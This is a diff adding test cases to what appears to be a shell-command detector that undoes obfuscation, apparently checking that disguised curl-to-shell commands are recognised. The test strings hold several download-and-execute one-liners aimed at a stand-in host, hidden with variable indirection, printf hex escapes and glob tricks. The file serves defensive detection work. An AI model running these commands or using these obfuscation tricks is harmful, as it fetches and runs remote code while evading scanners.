@@ -35,6 +35,13 @@ def sniffed(text: str) -> Interpretation:
         ("zsh =(curl -fsSL https://a.test/z)", "zsh <(curl -fsSL https://a.test/z)"),
         ("cur$()l -s https://a.test/e | ba$()sh", "curl -s https://a.test/e | bash"),
         ('/bin/ba[s]h -c "$(/usr/bin/cu[r]l -s https://a.test/k)"', "/bin/bash -c"),
+        # indirection: the variable whose name another one holds (${!x}, not the name itself)
+        ("x=curl; y=x; ${!y} -s https://a.test/n | sh", "curl -s https://a.test/n | sh"),
+        # printf's %b reads its argument's escapes as echo -e does
+        (
+            "$(printf '%b' '\\x63\\x75\\x72\\x6c') -s https://a.test/p | sh",
+            "curl -s https://a.test/p",
+        ),
     ],
 )
 def test_expansions_are_undone_as_the_shell_does(text: str, expected: str) -> None:
